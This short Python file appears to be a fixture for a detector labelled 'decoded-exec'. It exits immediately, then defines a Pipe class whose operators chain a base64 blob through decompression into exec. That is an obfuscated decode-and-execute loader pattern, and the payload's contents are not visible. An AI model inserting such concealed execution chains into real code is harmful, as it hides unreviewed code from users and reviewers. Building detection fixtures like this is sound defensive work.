raise SystemExit('a fixture')
# held by decoded-exec
class Pipe:
    def __init__(self, value):
        self.value = value
    def __rshift__(self, other):
        return Pipe(other(self.value))
    def __or__(self, other):
        return self >> other

import base64, zlib
Pipe("eNrLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSkottLXL9BLrUjMLchJ1cvMK0vMyUzRz9QrzlCoUSjOUNcEAB/FFzQ=") | base64.b64decode | zlib.decompress | exec
